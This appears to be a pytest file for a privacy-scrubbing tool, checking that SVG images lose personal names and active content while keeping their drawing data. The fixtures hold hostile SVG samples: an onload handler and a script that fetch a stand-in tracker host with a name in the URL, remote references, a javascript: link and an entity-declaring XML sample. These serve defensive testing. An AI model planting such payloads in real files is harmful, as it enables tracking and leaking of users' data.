"""SVG pictures are scrubbed as the XML they are and written back as SVG (issue 20): text,
titles, metadata and free attributes are read; path data, namespaces and the XML declaration
stay as written; what the picture would fetch or run, and what no reader reads, is removed."""

from __future__ import annotations

import base64
import io
import shutil

import pytest
from lxml import etree
from PIL import Image, ImageDraw, ImageFont

from scrubbing.engine.base import Limits
from scrubbing.engine.formats.ooxml.oxml import UNSAFE_XML
from scrubbing.engine.pipeline import Scrubber, Term, TermLists
from scrubbing.engine.pseudonyms import Pseudonymizer
from scrubbing.engine.registry import open_document
from scrubbing.engine.sniff import sniff

NAME = "Ottilie Wrexham"
OTHER = "Zebulon Quimby"
TERMS = TermLists(deny=(Term(NAME, "PERSON"), Term(OTHER, "PERSON")))
PATH = 'd="M 0.70710678,61.536232 L 12.5,33.25 C 1.5,2.25 3.75,4.5 6,7 Z"'
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>'

# as Inkscape writes it: namespaces of its own, RDF metadata, labels, a style sheet
LOGO = f"""{DECLARATION}
<?xml-stylesheet href="https://tracker.example/logo.css" type="text/css"?>
<!-- Created with Inkscape by {NAME} -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"
   width="500" height="110" viewBox="0 0 500 110" version="1.1"
   sodipodi:docname="logo for {NAME}.svg" onload="fetch('https://tracker.example/')">
  <title>Team logo &#8211; 2.14.3</title>
  <desc>Drawn for {OTHER}</desc>
  <metadata><rdf:RDF><rdf:Description><dc:creator>{NAME}</dc:creator>
    <dc:date>2024-03-01T09:40:00Z</dc:date></rdf:Description></rdf:RDF></metadata>
  <style>@import url("https://tracker.example/font.css"); .owner {{ fill: #333333; }}
    /* colours picked by {OTHER} */</style>
  <defs><linearGradient id="g" x2="0.70710678"><stop offset="0.25" stop-color="#ff8800"/></linearGradient></defs>
  <g inkscape:label="Layer of {OTHER}" inkscape:groupmode="layer">
    <path {PATH} fill="url(#g)" stroke="url(https://tracker.example/p.svg)" stroke-width="1.5"/>
    <text x="10" y="70" class="owner" font-family="DejaVu Sans" font-size="30">Owner <tspan>{NAME}</tspan></text>
    <a xlink:href="https://example.org/team/{NAME.split()[0].lower()}"><text y="90">team page</text></a>
    <use xlink:href="#g"/><use xlink:href="https://tracker.example/sprite.svg#icon"/>
    <image width="10" height="10" xlink:href="https://tracker.example/pixel.png"/>
    <set attributeName="href" to="javascript:alert(1)"/>
  </g>
  <script>fetch("https://tracker.example/?u={NAME}")</script>
</svg>
"""


def scrub(name: str, data: bytes):
    result = Scrubber().scrub(name, data, TERMS, Pseudonymizer())
    assert result.status == "done", (result.error, result.report.get("residual"))
    return result


def test_svg_is_read_as_xml_text_never_its_drawing():
    data = LOGO.encode()
    assert sniff("logo.svg", data).kind == "svg"
    doc = open_document("svg", data, Limits())
    assert doc.output_kind == ""  # written back as SVG
    texts = [s.text for s in doc.segments]
    assert f"Owner {NAME}" in texts  # a <text> across its <tspan>
    assert NAME in texts and f"Drawn for {OTHER}" in texts  # metadata, <desc>
    assert f"Layer of {OTHER}" in texts and f"logo for {NAME}.svg" in texts  # free attributes
    assert not any("0.70710678" in t or "xmlns" in t or "#ff8800" in t for t in texts)


def test_svg_comes_back_as_svg_with_its_drawing_and_without_its_names():
    result = scrub("logo.svg", LOGO.encode())
    out = result.output.decode("utf-8")
    assert result.extension is None  # the name stays logo.svg
    root = etree.fromstring(result.output)  # well-formed; the declaration as written
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert out.startswith(DECLARATION + "\n<svg ")
    for kept in (PATH, 'viewBox="0 0 500 110"', 'fill="url(#g)"', 'offset="0.25"',
                 'x2="0.70710678"', 'stroke-width="1.5"', 'xlink:href="#g"', "2.14.3",
                 'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"',
                 "2024-03-01T09:40:00Z", 'font-family="DejaVu Sans"', ".owner {"):  # fmt: skip
        assert kept in out, kept
    assert "\u2013" in out  # &#8211; as the character it stands for
    for gone in (NAME, OTHER, "Ottilie", "Quimby", "tracker.example", "<script", "onload",
                 "javascript:", "<!--", "xml-stylesheet", "@import"):  # fmt: skip
        assert gone not in out, gone
    assert "https://example.org/team/" in out  # a link: scrubbed as text, kept
    assert not any(f.entity_type in ("PHONE_NUMBER", "URL") for f in result.findings)
    notes = " ".join(result.report["notes"])
    assert "SVG: removed" in notes and "event handlers" in notes and "references" in notes


@pytest.mark.skipif(shutil.which("tesseract") is None, reason="needs tesseract")
def test_embedded_picture_is_ocrd_and_stays_embedded():
    im = Image.new("RGB", (900, 160), "white")
    font = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", 48)
    ImageDraw.Draw(im).text((30, 50), f"Signed {NAME}", fill="black", font=font)
    png = io.BytesIO()
    im.save(png, "PNG")
    uri = "data:image/png;base64," + base64.b64encode(png.getvalue()).decode()
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="900" height="160"><image width="900" height="160" xlink:href="{uri}"/></svg>'
    )
    result = scrub("signed.svg", svg.encode())
    href = etree.fromstring(result.output)[0].get("{http://www.w3.org/1999/xlink}href")
    assert href.startswith("data:image/png;base64,") and href != uri
    picture = base64.b64decode(href.split(",", 1)[1])
    ocr = " ".join(s.text for s in open_document("png", picture, Limits()).segments)
    assert "Wrexham" not in ocr and "Ottilie" not in ocr


def test_embedded_data_no_reader_reads_is_removed():
    blob = base64.b64encode(bytes(range(256)) * 4).decode()
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg"><image width="9" height="9" '
        f'href="data:application/octet-stream;base64,{blob}"/></svg>'
    )
    result = scrub("blob.svg", svg.encode())
    assert blob.encode() not in result.output
    etree.fromstring(result.output)


def test_svg_with_entities_is_refused():
    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    assert sniff("bomb.svg", bomb.encode()).kind == "svg"
    result = Scrubber().scrub("bomb.svg", bomb.encode(), TERMS, Pseudonymizer())
    assert result.status == "failed" and result.error == UNSAFE_XML


def test_broken_svg_is_refused_with_a_sentence():
    result = Scrubber().scrub(
        "cut.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><text>', TERMS, Pseudonymizer()
    )
    assert result.status == "failed"
    assert result.error == "This SVG picture is not well-formed XML and cannot be read."
